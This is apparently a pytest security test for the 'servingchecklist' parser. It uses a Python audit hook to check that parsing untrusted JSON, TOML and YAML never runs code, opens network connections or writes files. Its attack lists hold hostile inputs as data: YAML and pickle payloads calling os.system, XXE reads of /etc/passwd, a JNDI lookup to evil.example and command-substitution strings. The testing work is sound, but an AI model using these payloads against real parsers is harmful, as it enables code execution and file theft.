"""Reading a stranger's file runs none of it: an audit hook sees what the interpreter does meanwhile."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from helpers.strategies import DOCUMENT
from servingchecklist import Checklist, Launch, write

CORPUS = Path(__file__).parent / "corpus"
FILES = tuple(f"{name}.{format}" for name in ("checklist", "launch") for format in ("json", "toml", "yaml"))

# Runs in a process of its own, since an audit hook stays for ever. Prints what was seen: while everything was imported and used for the
# first time, and then while everything was used again.
WATCHED = """
import json, os, sys

seen = {"first": [], "again": [], "sentinel": []}
phase = None

def watch(event, arguments):
    if phase is not None:
        seen[phase].append((event, [str(one) if isinstance(one, (str, bytes, int, os.PathLike)) else type(one).__name__ for one in arguments],
            list(callers()) if event in ("exec", "compile") else []))

def callers():
    frame = sys._getframe(2)
    while frame:
        yield frame.f_code.co_filename
        frame = frame.f_back

sys.addaudithook(watch)
folder, texts = sys.argv[1], json.load(open(sys.argv[2], encoding="utf-8"))

def use_everything():
    import servingchecklist
    from datetime import timedelta
    from servingchecklist import Checklist, ChecklistError, Launch, catalog, dumps, loads, next_tasks, order, read
    for name in ("checklist.json", "checklist.toml", "checklist.yaml"):
        checklist = read(os.path.join(folder, name))
        for format in ("json", "toml", "yaml", "markdown", "html", "text"):
            dumps(checklist, format)
        order(checklist), next_tasks(checklist), checklist._repr_mimebundle_()
        Checklist.from_dict(checklist.to_dict())
    catalog.load("model-serving"), catalog.load("model-rollback")
    catalog.overlay("llm-serving"), catalog.overlay("regulated")
    for name in ("launch.json", "launch.toml", "launch.yaml"):
        launch = read(os.path.join(folder, name))
        for format in ("json", "toml", "yaml", "markdown", "html", "text"):
            dumps(launch, format)
        launch.next(), launch.progress(), launch._repr_mimebundle_(), launch.merge(launch)
        dumps(launch.review(launch.started - timedelta(days=1)), "svg")
        Launch.from_dict(launch.to_dict())
    for format in ("json", "toml", "yaml"):
        for text in texts:
            for limits in ({}, {"limits": None}):
                try:
                    loads(text, format, **limits)
                except ChecklistError as error:
                    str(error)

phase = "first"
use_everything()
phase = "again"
use_everything()
phase = "sentinel"
import pickle, subprocess
open(sys.argv[2]).close(), eval("1"), pickle.loads(b"cos\\ngetpid\\n.")
phase = None
json.dump({"seen": seen, "package": os.path.dirname(sys.modules["servingchecklist"].__file__), "modules":
    sorted({os.path.dirname(m.__file__) for m in list(sys.modules.values()) if getattr(m, "__file__", None)})}, sys.stdout)
"""

ATTACKS = [
    '{"$ref": "file:///etc/passwd", "include": "/etc/passwd", "import": "os"}',
    '{"__class__": "subprocess.Popen", "__reduce__": ["os.system", ["id"]], "py/object": "os.system"}',
    'include = "/etc/passwd"\nimport = ["os"]\nextends = "https://evil.example/x.toml"\n',
    "!!python/object/apply:os.system ['id']",
    "cos\nsystem\n(S'id'\ntR.",
    "__import__('os').system('id')",
    "import os; os.system('id')",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "@include /etc/passwd",
    "%include /etc/passwd",
    "<<: *x",
    '"' + "${jndi:ldap://evil.example/x}" + '"',
]


@pytest.fixture(scope="module")
def watched(tmp_path_factory):
    folder = tmp_path_factory.mktemp("watched")
    for name in ("checklist.json", "checklist.toml", "checklist.yaml"):
        write(Checklist.from_dict(DOCUMENT), folder / name)
    launch = Launch.start(Checklist.from_dict(DOCUMENT), name="fraud-v3", by="ml-platform")
    launch = launch.block("c1", reason="no access", by="ml-platform")
    for name in ("launch.json", "launch.toml", "launch.yaml"):
        write(launch, folder / name)
    document = json.dumps(DOCUMENT)
    places = ["Write them down.", "guides/goals.md", "https://example.com/guide", "mine", "2-5 days, likely 3"]
    payloads = [
        "__import__('os').system('id')",
        "{{7*7}}",
        "file:///etc/passwd",
        "$(id)",
        "`id`",
        "../../../etc/passwd",
        "%(id)s",
        "{0.__class__}",
    ]
    texts = ATTACKS + [document.replace(place, payload) for place in places for payload in payloads]
    document = json.dumps(launch.to_dict())
    texts += [document.replace(place, payload) for place in ("ml-platform", "no access") for payload in payloads]
    texts += [
        text
        for name in ("json", "toml")
        for text in json.loads((CORPUS / f"malformed-{name}.json").read_text()).values()
    ]
    attacks = folder / "attacks.json"
    attacks.write_text(json.dumps(texts))
    done = subprocess.run([sys.executable, "-c", WATCHED, folder, attacks], check=True, capture_output=True, text=True)
    return json.loads(done.stdout) | {"folder": str(folder), "attacks": str(attacks)}


FORBIDDEN = (
    "subprocess.", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn", "os.startfile", "pty.", "socket.", "urllib.", "http.",
    "ftplib.", "smtplib.", "pickle.", "ctypes.", "webbrowser.", "code.__new__", "sys.addaudithook", "os.remove", "os.rename",
    "os.mkdir", "os.rmdir", "os.chmod", "os.chown", "os.link", "os.symlink", "os.truncate", "os.putenv", "os.kill", "shutil.", "tempfile.",
    "sqlite3.", "winreg.", "function.__new__", "builtins.input", "resource.setrlimit",
)  # fmt: skip


def test_the_hook_sees_what_these_tests_look_for(watched):
    sentinel = watched["seen"]["sentinel"]
    events = {event for event, _, _ in sentinel}
    assert {"open", "exec", "compile", "pickle.find_class", "import"} <= events
    assert watched["attacks"] in [arguments[0] for event, arguments, _ in sentinel if event == "open"]


def test_files_are_read_when_they_are_read_again_and_nothing_else_happens(watched):
    again = watched["seen"]["again"]
    opened = {arguments[0] for event, arguments, _ in again if event == "open"}
    own = {f"{watched['folder']}/{name}" for name in FILES}
    data = {path for path in opened if path.startswith(f"{watched['package']}/data/")}
    assert opened == own | data
    names = ("model-serving", "model-rollback", "llm-serving", "regulated")
    assert data == {f"{watched['package']}/data/{name}.toml" for name in names}
    assert {event for event, _, _ in again} - {"open"} <= {"object.__getattr__", "sys._getframe", "builtins.id"}
    # The event has the mode of ``open``, or none and the flags of ``os.open``.
    for mode, flags in [map(str, arguments[1:]) for event, arguments, _ in again if event == "open"]:
        assert mode == "NoneType" or mode.strip("tb") == "r"
        assert int(flags) & (os.O_WRONLY | os.O_RDWR) == 0


def test_the_first_time_only_pythons_own_modules_are_read_besides(watched):
    first = watched["seen"]["first"]
    roots = tuple(watched["modules"])
    own = tuple(f"{watched['folder']}/{name}" for name in FILES)
    foreign = [
        arguments[0]
        for event, arguments, _ in first
        if event == "open" and arguments[0] not in own and not arguments[0].startswith(roots)
    ]
    assert foreign == []


@pytest.mark.parametrize("phase", ["first", "again"])
def test_nothing_is_run_fetched_or_changed(watched, phase):
    events = [(event, arguments) for event, arguments, _ in watched["seen"][phase] if event.startswith(FORBIDDEN)]
    # attrs and cattrs make the methods of classes of ours, once, when these are imported.
    assert [found for found in events if found[0] not in ("code.__new__", "function.__new__")] == []
    if phase == "again":
        assert events == []


def test_code_is_run_only_to_import_modules_and_to_make_their_classes(watched):
    ran = [callers for event, _, callers in watched["seen"]["first"] if event in ("exec", "compile")]
    assert ran
    makers = (
        "<frozen importlib._bootstrap",
        "/attr/",
        "/cattrs/",
        "/attrs/",
        "/re/",
        "collections/__init__.py",
        "dataclasses.py",
        "typing.py",
        "enum.py",
    )
    assert [callers for callers in ran if not any(maker in caller for caller in callers[:6] for maker in makers)] == []
    executed = [
        arguments
        for event, arguments, _ in watched["seen"]["first"]
        if event == "compile" and "etc/passwd" in "".join(arguments)
    ]
    assert executed == []
